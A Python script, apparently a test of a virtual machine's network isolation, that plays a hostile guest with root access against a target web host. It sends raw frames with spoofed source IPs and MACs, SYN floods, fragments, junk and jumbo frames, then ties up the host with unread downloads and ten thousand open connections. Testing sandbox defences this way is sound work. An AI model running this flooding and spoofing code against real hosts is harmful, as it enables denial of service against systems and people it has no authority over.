"""What a hostile guest does to its network, as root: frames of its own making, ten
thousand sockets, downloads that nobody reads. Its argument is WEB. It prints how
far it came."""
import os, resource, socket, struct, sys, time

WEB = sys.argv[1]
resource.setrlimit(resource.RLIMIT_NOFILE, (20000, 20000))
mac = open("/sys/class/net/eth0/address").read().strip().replace(":", "")
MAC, GATEWAY = bytes.fromhex(mac), bytes.fromhex("026165676901")


def checksum(b):
    n = sum(struct.unpack(">%dH" % (len(b) // 2), b))
    while n >> 16:
        n = (n & 0xFFFF) + (n >> 16)
    return ~n & 0xFFFF


def frame(source, mac, port, flags=2, proto=6, more=0, ident=0):
    """A TCP segment of nothing, in a frame."""
    ip = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 40, ident, more, 64, proto, 0, socket.inet_aton(source), socket.inet_aton(WEB))
    ip = ip[:10] + struct.pack(">H", checksum(ip)) + ip[12:]
    tcp = struct.pack(">HHIIBBHHH", port, 80, 1, 0, 5 << 4, flags, 65535, 0, 0)
    pseudo = ip[12:20] + struct.pack(">BBH", 0, proto, 20)
    tcp = tcp[:16] + struct.pack(">H", checksum(pseudo + tcp)) + tcp[18:]
    return GATEWAY + mac + b"\x08\x00" + ip + tcp


raw = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
raw.bind(("eth0", 0))
mine = "10.211.212.2"
for name, make in (
    ("syn", lambda n: frame(mine, MAC, 1024 + n)),
    ("forged", lambda n: frame("8.8.8.%d" % (n % 250), MAC, 1024 + n)),
    ("forged-mac", lambda n: frame(mine, os.urandom(6), 1024 + n)),
    ("fragments", lambda n: frame(mine, MAC, 1024 + n, more=0x2000, ident=n)),
    ("rubbish", lambda n: GATEWAY + MAC + os.urandom(60 + n % 1000)),
    ("jumbo", lambda n: GATEWAY + MAC + b"\x08\x00" + os.urandom(65000) if n % 100 == 0 else frame(mine, MAC, 7)),
):
    for n in range(2000):
        raw.send(make(n))
    print(name, flush=True)

# Downloads that are never read.
held = []
for n in range(200):
    s = socket.socket()
    s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    s.settimeout(30)
    try:
        s.connect((WEB, 80))
        s.sendall(b"GET /100000000.bytes HTTP/1.1\r\nHost: web.test\r\n\r\n")
    except OSError:
        pass
    held.append(s)
print("unread", flush=True)

# Ten thousand sockets.
for n in range(10000):
    s = socket.socket()
    s.setblocking(False)
    s.connect_ex((WEB, 80))
    held.append(s)
print("sockets", flush=True)
time.sleep(float(sys.argv[2]))
